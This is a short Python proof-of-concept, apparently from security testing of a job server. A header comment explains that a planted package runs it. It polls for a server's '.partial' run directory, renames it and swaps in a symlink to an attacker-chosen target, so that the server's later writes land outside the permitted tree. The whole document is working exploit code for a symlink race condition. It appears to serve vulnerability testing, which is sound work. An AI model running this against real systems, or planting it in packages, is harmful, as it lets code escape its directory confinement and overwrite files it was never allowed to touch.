# P6-1 (run in a planted package's run(), the job kept alive meanwhile): a sweep's (or compare's) run
# directory, which the server finishes AFTER releasing the device lock, is swapped for a link to OUTSIDE
# once the server has written its first file there (sweep.csv; compare: compare.md is the last, so the
# swap is made on the first sign of the server: the .partial directory seen with sweep.json/compare.json
# and no job of the child's left). The server's later writes (sweep.png, sweep.md; safefs.write_atomic opens
# the work directory itself following links) land outside.
import os, time
target = open(os.path.join(ws, "evil", "TARGET")).read().strip()
root = os.path.join(ws, "out", "profiles")
want = open(os.path.join(ws, "evil", "WANT")).read().strip() if os.path.exists(os.path.join(ws, "evil", "WANT")) else "sweep.csv"
print(time.strftime("%H:%M:%S"), "racer started in pid", os.getpid(), "waiting for", want, "target", target, file=log, flush=True)
t_end = time.time() + 100
done = False
while time.time() < t_end and not done:
    for d, subs, files in os.walk(root):
        if d.endswith(".partial") and want in files and not os.path.islink(d):
            try:
                os.rename(d, d + ".moved-by-kprobe6")
                os.symlink(target, d)
                print(time.strftime("%H:%M:%S"), "swapped", d, "->", target, file=log, flush=True)
            except OSError as e:
                print("swap failed", e, file=log, flush=True)
            done = True
            break
    time.sleep(0.005)
time.sleep(3)
print(time.strftime("%H:%M:%S"), "racer ends", file=log, flush=True)
